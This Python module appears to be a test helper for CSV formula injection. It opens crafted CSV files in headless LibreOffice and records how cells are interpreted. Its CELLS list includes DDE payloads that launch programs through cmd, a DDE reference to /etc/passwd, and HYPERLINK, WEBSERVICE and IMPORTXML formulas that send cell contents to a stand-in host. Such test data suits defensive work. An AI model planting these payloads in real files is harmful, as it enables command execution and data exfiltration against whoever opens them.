"""What strangers may write into a cell, and LibreOffice as the one who opens the file."""

import re
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

from lxml import etree

# Texts that some spreadsheet runs, or takes for the start of something that it runs.
CELLS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;2)",
    "=SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   @SUM(1)",
    "\u3000=1+1",
    '"=1+1"',
    '" =1+1',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "−1",
    "|calc",
    "%0A=1+1",
    "'=1+1",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    '=DDE("soffice";"/etc/passwd";"1")',
    '=HYPERLINK("http://lantern.example/?x="&A1;"Invoice")',
    '=WEBSERVICE("http://lantern.example/")',
    '=IMPORTXML(CONCAT("http://lantern.example/";A1);"//a")',
    "lamp\r\n=1+1\r\n",
    "lamp\n-1+1;",
    "lamp;=1+1;",
    "lamp,@SUM(1),\t=1+1",
]
# Texts that a spreadsheet would turn into a number, a date, a time or a truth.
READ_AS_VALUES = [
    "576461413038785752",
    "007",
    "00",
    "123456789012",
    "1E5",
    "12e10",
    "1.50",
    "1,234",
    "1 234 567",
    "$5",
    "5 €",
    "5%",
    "(123)",
    "12-05",
    "3/4",
    "2024-07",
    "2024-07-29",
    "29.07.2024",
    "12-05-24",
    "10:30",
    "10:30:15 PM",
    "3 pm",
    "1 1/2",
    "DEC1",
    "1-Mar",
    "SEPT 2024",
    "TRUE",
    "false",
    "7月15日",
]
KEPT = [
    "4711",
    "88157",
    "112-5580146-7713902",
    "17-11862-40935",
    "2024/A/0317",
    "INV-2024-07",
    "LS-7001",
    "CW 10311",
    "DE123456789",
    "March Hare Ltd",
    "May",
    "0049 30 123456",
]

PROGRAM = shutil.which("soffice") or shutil.which("libreoffice")
_OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
# Windows' numbers for languages, as the import filter wants them.
LANGUAGES = {"en_US": 1033, "de_DE": 1031, "de_CH": 2055, "fr_FR": 1036, "es_PE": 10250, "ja_JP": 1041, "pt_BR": 1046}


@dataclass(frozen=True, slots=True)
class Cell:
    """A cell as LibreOffice understands it: `kind` is string, float, date, …; `shown` is what stands in it."""

    kind: str
    value: str
    shown: str
    formula: str = ""


def opened(folder: Path, delimiter: str, locale: str, *, quoted_is_text: bool = False) -> dict[str, list[list[Cell]]]:
    """Open the CSV files of a folder as a person would who lets LibreOffice find out all it can, formulas too."""
    assert PROGRAM
    options = [str(ord(delimiter)), "34", "76", "1", "", str(LANGUAGES[locale])]
    options += [str(quoted_is_text).lower(), "true", "false", "false", "false", "-1", "true"]
    command = [PROGRAM, f"-env:UserInstallation={(folder / 'office').as_uri()}", "--headless"]
    command += ["--convert-to", "fods:OpenDocument Spreadsheet Flat XML", f"--infilter=CSV:{','.join(options)}"]
    files = sorted(map(str, folder.glob("*.csv")))
    made = folder / "opened"
    subprocess.run([*command, "--outdir", str(made), *files], check=True, capture_output=True, timeout=250)
    return {file.stem: _sheet(file) for file in made.iterdir()}


def _sheet(file: Path) -> list[list[Cell]]:
    tree = etree.parse(str(file), etree.XMLParser(huge_tree=True))
    rows = [[_cell(cell) for cell in _repeated(row, "cell")] for row in _repeated(tree.getroot(), "row")]
    return [row for row in rows if any(cell.kind for cell in row)]


def _repeated(parent: etree._Element, what: str) -> list[etree._Element]:
    counted = f"{_TABLE}number-{'columns' if what == 'cell' else 'rows'}-repeated"
    found = parent.iter(f"{_TABLE}table-{what}")
    # what is repeated a thousand times is the empty rest of the sheet
    return [one for one in found for _ in range(min(int(one.get(counted, "1")), 200))]


def _cell(cell: etree._Element) -> Cell:
    kind = cell.get(f"{_OFFICE}value-type", "")
    value = cell.get(f"{_OFFICE}{'date-value' if kind == 'date' else 'value'}", "")
    shown = "\n".join(_written(paragraph) for paragraph in cell.findall(f"{_TEXT}p"))
    return Cell(kind, value, shown, cell.get(f"{_TABLE}formula", ""))


def _written(paragraph: etree._Element) -> str:
    """Return the text of a paragraph, with the spaces and tabs that stand in it as elements."""
    text = paragraph.text or ""
    for child in paragraph:
        inner = {f"{_TEXT}s": " " * int(child.get(f"{_TEXT}c", "1")), f"{_TEXT}tab": "\t", f"{_TEXT}line-break": "\n"}
        text += inner.get(str(child.tag), _written(child)) + (child.tail or "")
    return text


def without_line_ends(text: str) -> str:
    """Spreadsheets know one kind of line end."""
    return re.sub(r"\r\n|\r|\n", "\n", text)
